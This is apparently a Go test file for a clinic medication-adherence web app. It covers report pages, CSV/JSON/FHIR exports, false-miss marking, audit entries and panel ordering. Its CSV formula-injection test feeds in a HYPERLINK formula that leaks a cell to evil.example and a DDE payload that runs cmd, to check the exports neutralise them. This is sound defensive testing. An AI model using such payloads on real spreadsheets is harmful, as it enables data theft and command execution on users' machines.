package web

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"html/template"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/pillbox/pillbox/adherence/clinic"
	"github.com/pillbox/pillbox/adherence/report"
	"github.com/pillbox/pillbox/adherence/uplink"
	"github.com/pillbox/pillbox/dispenser"
	"github.com/pillbox/pillbox/hw/vital"
	fhirvalidate "github.com/pillbox/pillbox/tools/fhir-validate"
)

var nyc = func() *time.Location {
	l, err := time.LoadLocation("America/New_York")
	if err != nil {
		panic(err)
	}
	return l
}()

// syncSynthetic syncs days of a synthetic log for patient A.
func (e *env) syncSynthetic(days int) (evs []dispenser.Event, rs []vital.Reading) {
	e.t.Helper()
	evs, rs, err := e.Clinic.SeedSynthetic(e.Ctx, clinic.CLI("test"), e.PatA.ID, days, 42, nyc)
	if err != nil {
		e.t.Fatal(err)
	}
	return evs, rs
}

func TestReportPages(t *testing.T) {
	e := newEnv(t)
	e.syncSynthetic(100)
	cookie, _ := e.login("alice", testPassword)
	tests := []struct {
		path string
		want []string
	}{
		{"/panel", []string{e.PatA.DisplayName, `<svg class="spark"`, "Adherence, 30 days", "Open alerts"}},
		{"/patients/" + e.PatA.ID, []string{`<svg class="heatmap"`, "<title id=\"hm-t\">Doses from", "Metformin 500 mg",
			"Last 90 days", "Proportion of days covered", "Systolic and diastolic (mmHg)", `class="band"`, "Mark as false miss",
			"Alerts", "Carol (caregiver 1)", "delivered", "fhir.json?days=90", "America/New_York", "Taken inside the window",
			`<svg class="chart trend"`, "Adherence week by week", `<h2 id="risk">Riskiest doses of the coming week</h2>`, `<button type="button" class="print" hidden>`}},
		{"/patients/" + e.PatA.ID + "?days=7", []string{"(7 days)", "All times are in America/New_York</strong>, the patient's zone"}},
		{"/patients/" + e.PatA.ID + "?from=2026-02-01&to=2026-02-14", []string{"Report for 2026-02-01 to 2026-02-14 (14 days"}},
	}
	for _, tc := range tests {
		t.Run(tc.path, func(t *testing.T) {
			w := e.do("GET", tc.path, cookie, "")
			if w.Code != http.StatusOK {
				t.Fatalf("GET %s = %d, want 200: %.500s", tc.path, w.Code, w.Body)
			}
			for _, s := range tc.want {
				if !strings.Contains(w.Body.String(), s) {
					t.Errorf("GET %s lacks %q", tc.path, s)
				}
			}
			// The only script is the Print button's, from the clinic itself.
			body := strings.Replace(w.Body.String(), `<script src="/static/print.js" defer></script>`, "", 1)
			if strings.Contains(body, "<script") || strings.Contains(w.Body.String(), "http://") && !strings.Contains(w.Body.String(), "xmlns=\"http://www.w3.org/2000/svg\"") {
				t.Errorf("GET %s has a script or an outside resource", tc.path)
			}
		})
	}
	t.Run("bad period", func(t *testing.T) {
		for _, q := range []string{"days=0", "days=x", "from=2026-03-01&to=2026-02-01", "from=yesterday"} {
			if w := e.do("GET", "/patients/"+e.PatA.ID+"?"+q, cookie, ""); w.Code != http.StatusBadRequest {
				t.Errorf("GET ?%s = %d, want 400", q, w.Code)
			}
		}
	})
}

func TestExports(t *testing.T) {
	e := newEnv(t)
	e.syncSynthetic(60)
	cookie, _ := e.login("alice", testPassword)
	base := "/patients/" + e.PatA.ID
	get := func(path string) []byte {
		t.Helper()
		w := e.do("GET", path, cookie, "")
		if w.Code != http.StatusOK {
			t.Fatalf("GET %s = %d: %.300s", path, w.Code, w.Body)
		}
		return w.Body.Bytes()
	}
	var rep struct {
		Overall report.DoseStats    `json:"overall"`
		Doses   []json.RawMessage   `json:"doses"`
		Vitals  []report.VitalStats `json:"vitals"`
		PDC     []report.PDCResult  `json:"pdc"`
	}
	if err := json.Unmarshal(get(base+"/report.json?days=30"), &rep); err != nil {
		t.Fatalf("report.json: %v", err)
	}
	if rep.Overall.Scheduled < 100 || len(rep.PDC) != 3 || len(rep.Vitals) < 4 {
		t.Errorf("report.json: %d scheduled, %d PDC classes, %d vital quantities; want a month of four daily doses, 3 classes, 4+ quantities",
			rep.Overall.Scheduled, len(rep.PDC), len(rep.Vitals))
	}
	doses, err := csv.NewReader(bytes.NewReader(get(base + "/doses.csv?days=30"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(doses[0], report.DoseCSVHeader) || len(doses)-1 != len(rep.Doses) {
		t.Errorf("doses.csv: header %v and %d rows, want %v and %d rows (one per dose)", doses[0], len(doses)-1, report.DoseCSVHeader, len(rep.Doses))
	}
	readings, err := csv.NewReader(bytes.NewReader(get(base + "/readings.csv?days=30"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	// Today (04:00 in New York) has no readings yet: 29 days of six.
	if len(readings)-1 != 29*6 {
		t.Errorf("readings.csv has %d rows, want 174 (six readings a day for 29 days)", len(readings)-1)
	}
	w := e.do("GET", base+"/fhir.json?days=30", cookie, "")
	if ct, cd := w.Header().Get("Content-Type"), w.Header().Get("Content-Disposition"); ct != "application/fhir+json" || !strings.Contains(cd, "attachment") {
		t.Errorf("fhir.json: Content-Type %q, Content-Disposition %q", ct, cd)
	}
	if ok, out := fhirvalidate.Run(t, w.Body.Bytes()); !ok {
		t.Errorf("the exported FHIR bundle does not validate:\n%.3000s", out)
	}
	// API tokens read the same report.
	if w := e.do("GET", "/api/v1/patients/"+e.PatA.ID+"/fhir?days=30", "Bearer "+e.APIAlice, ""); w.Code != http.StatusOK {
		t.Errorf("GET the FHIR API with a token = %d", w.Code)
	}
	es, err := e.Clinic.AuditLog(e.Ctx, clinic.AuditQuery{PatientID: e.PatA.ID, Limit: 1000})
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, a := range es {
		if a.Action == "report.export" {
			n++
			if strings.Contains(a.Target, "metformin") {
				t.Errorf("audit entry %+v names a medication", a)
			}
		}
	}
	if n != 5 {
		t.Errorf("audit has %d report.export entries, want 5 (one per export read)", n)
	}
}

func TestFalseMiss(t *testing.T) {
	e := newEnv(t)
	evs, _ := e.syncSynthetic(20)
	var missed string
	for _, ev := range evs {
		if ev.Kind == dispenser.KindMissed {
			missed = ev.DoseID
		}
	}
	aliceCookie, aliceCSRF := e.login("alice", testPassword)
	bobCookie, bobCSRF := e.login("bob", testPassword)
	post := func(cookie, csrf string, form url.Values) (int, string) {
		t.Helper()
		form.Set("csrf", csrf)
		w := e.do("POST", "/patients/"+e.PatA.ID+"/false-misses", cookie, form.Encode(), "Content-Type", "application/x-www-form-urlencoded")
		loc, _ := url.Parse(w.Header().Get("Location"))
		if loc == nil {
			return w.Code, ""
		}
		return w.Code, loc.Query().Get("msg")
	}
	falseMisses := func() int {
		var rep struct {
			Overall report.DoseStats `json:"overall"`
		}
		w := e.do("GET", "/patients/"+e.PatA.ID+"/report.json?days=30", aliceCookie, "")
		if err := json.Unmarshal(w.Body.Bytes(), &rep); err != nil {
			t.Fatal(err)
		}
		return rep.Overall.FalseMisses
	}
	tests := []struct {
		name       string
		cookie     string
		csrf       string
		form       url.Values
		wantCode   int
		wantMsg    string
		wantMarked int
	}{
		{"no reason", aliceCookie, aliceCSRF, url.Values{"dose": {missed}, "source": {"clinician"}}, 303, "no-reason", 0},
		{"reason of two lines", aliceCookie, aliceCSRF, url.Values{"dose": {missed}, "reason": {"a\nb"}, "source": {"clinician"}}, 303, "reason-not-line", 0},
		{"not a miss", aliceCookie, aliceCSRF, url.Values{"dose": {"nope@2026"}, "reason": {"x"}, "source": {"clinician"}}, 303, "no-miss", 0},
		{"bad source", aliceCookie, aliceCSRF, url.Values{"dose": {missed}, "reason": {"x"}, "source": {"robot"}}, 303, "bad-source", 0},
		{"another clinician", bobCookie, bobCSRF, url.Values{"dose": {missed}, "reason": {"x"}, "source": {"clinician"}}, 404, "", 0},
		{"marked", aliceCookie, aliceCSRF, url.Values{"dose": {missed}, "reason": {"took it from the blister pack"}, "source": {"caregiver"}}, 303, "marked", 1},
		{"unmarked", aliceCookie, aliceCSRF, url.Values{"dose": {missed}, "action": {"unmark"}}, 303, "unmarked", 0},
		{"nothing to unmark", aliceCookie, aliceCSRF, url.Values{"dose": {missed}, "action": {"unmark"}}, 303, "no-mark", 0},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			code, msg := post(tc.cookie, tc.csrf, tc.form)
			if code != tc.wantCode || msg != tc.wantMsg {
				t.Errorf("POST false-misses = %d %q, want %d and the notice %q", code, msg, tc.wantCode, tc.wantMsg)
			}
			if msg != "" {
				page := e.do("GET", "/patients/"+e.PatA.ID+"?msg="+msg, aliceCookie, "").Body.String()
				if text := template.HTMLEscapeString(notices[msg]); text == "" || !strings.Contains(page, text) {
					t.Errorf("patient page with ?msg=%s does not show its notice %q", msg, notices[msg])
				}
			}
			if got := falseMisses(); got != tc.wantMarked {
				t.Errorf("after it the report counts %d false misses, want %d", got, tc.wantMarked)
			}
		})
	}
	es, err := e.Clinic.AuditLog(e.Ctx, clinic.AuditQuery{PatientID: e.PatA.ID, Limit: 1000})
	if err != nil {
		t.Fatal(err)
	}
	var acts []string
	for _, a := range es {
		if strings.HasPrefix(a.Action, "dose.") {
			acts = append(acts, a.Action+" "+a.Target)
		}
	}
	if want := []string{"dose.false_miss source=caregiver", "dose.false_miss_removed "}; !slices.Equal(acts, want) {
		t.Errorf("audit of the marks = %q, want %q", acts, want)
	}
}

// TestNoticeOnlyByID: the patient page shows a notice only by its id;
// any other text in ?msg= (a link someone sent) shows nothing.
func TestNoticeOnlyByID(t *testing.T) {
	e := newEnv(t)
	cookie, _ := e.login("alice", testPassword)
	const forged = "Official notice: call 555-0100 to confirm the dose"
	page := e.do("GET", "/patients/"+e.PatA.ID+"?msg="+url.QueryEscape(forged), cookie, "").Body.String()
	if strings.Contains(page, "call 555-0100") || strings.Contains(page, `class="notice"`) {
		t.Error("the patient page shows the text of ?msg= as a notice")
	}
}

func TestNeedOrder(t *testing.T) {
	row := func(name string, silent bool, high, open int, taking float64, scheduled int) PanelRow {
		return PanelRow{PanelEntry: clinic.PanelEntry{Patient: clinic.Patient{DisplayName: name}, Silent: silent},
			Stats: report.PanelStats{OpenHigh: high, OpenAlerts: open, Taking: taking, Scheduled: scheduled}}
	}
	rows := []PanelRow{
		row("no doses", false, 0, 0, 0, 0),
		row("good", false, 0, 0, 0.95, 60),
		row("poor", false, 0, 0, 0.5, 60),
		row("alert", false, 0, 2, 0.9, 60),
		row("high alert", false, 1, 1, 0.99, 60),
		row("silent", true, 0, 0, 1, 60),
	}
	slices.SortStableFunc(rows, needOrder)
	var got []string
	for _, r := range rows {
		got = append(got, r.Patient.DisplayName)
	}
	if want := []string{"silent", "high alert", "alert", "poor", "good", "no doses"}; !slices.Equal(got, want) {
		t.Errorf("panel order = %v, want %v", got, want)
	}
}

// TestCSVFormulaInjection: text a device or a clinician wrote that a
// spreadsheet would run as a formula (= + - @, tab, CR first) is written
// as text in doses.csv and readings.csv (OWASP: a leading '), and numbers
// stay numbers.
func TestCSVFormulaInjection(t *testing.T) {
	e := newEnv(t)
	p, err := e.Clinic.Authenticate(e.Ctx, e.TokA)
	if err != nil {
		t.Fatal(err)
	}
	sched := t0.Add(-2 * time.Hour)
	dose := `=HYPERLINK("http://evil.example/?"&A1,"open")`
	b := &uplink.Batch{Version: uplink.Version, Device: e.DevA.ID, Log: "l1", Heartbeat: uplink.Heartbeat{Time: t0},
		Events: []uplink.Event{
			{Seq: 1, ID: "e1", Time: sched, Kind: "dose_due", DoseID: dose, Scheduled: sched, Medication: "+cmd|' /C calc'!A0"},
			{Seq: 2, ID: "e2", Time: sched.Add(time.Minute), Kind: "skipped", DoseID: dose, Scheduled: sched, Medication: "+cmd|' /C calc'!A0", Detail: "by=@SUM(1+1)"},
			{Seq: 3, ID: "e3", Time: sched.Add(time.Minute), Kind: "dose_due", DoseID: "\tm@x", Scheduled: sched, Medication: "m"},
			{Seq: 4, ID: "e4", Time: sched.Add(2 * time.Minute), Kind: "missed", DoseID: "\tm@x", Scheduled: sched, Medication: "m"},
		},
		Readings: []uplink.Reading{{Seq: 1, ID: "r1", Quantity: "temperature", Value: -1.5, Unit: "-1+2", Time: sched,
			Device: "@evil", Original: "\r=2", Unreliable: []string{"=bad"}}}}
	if _, err := e.Clinic.Ingest(e.Ctx, p, b, ""); err != nil {
		t.Fatal(err)
	}
	if err := e.Clinic.MarkFalseMiss(e.Ctx, clinic.CLI("test"), e.PatA.ID, "\tm@x", "=1+1 taken from a blister pack", clinic.SourceClinician); err != nil {
		t.Fatal(err)
	}
	numeric := map[string]bool{"delay_min": true, "value": true}
	for _, file := range []string{"doses.csv", "readings.csv"} {
		w := e.do("GET", "/patients/"+e.PatA.ID+"/"+file+"?days=2", "Bearer "+e.APIAlice, "")
		rows, err := csv.NewReader(bytes.NewReader(w.Body.Bytes())).ReadAll()
		if err != nil || len(rows) < 2 {
			t.Fatalf("%s = %d %s (%v), want a header and rows", file, w.Code, w.Body, err)
		}
		quoted := 0
		for _, row := range rows[1:] {
			for i, cell := range row {
				if numeric[rows[0][i]] || cell == "" {
					continue
				}
				if strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: %s = %q, a formula a spreadsheet would run", file, rows[0][i], cell)
				}
				if cell[0] == '\'' {
					quoted++
				}
			}
		}
		if quoted == 0 {
			t.Errorf("%s has no neutralised cell:\n%s", file, w.Body)
		}
		if file == "readings.csv" && !slices.Contains(rows[1], "-1.5") {
			t.Errorf("readings.csv row %q: the value -1.5 should stay a number", rows[1])
		}
	}
}
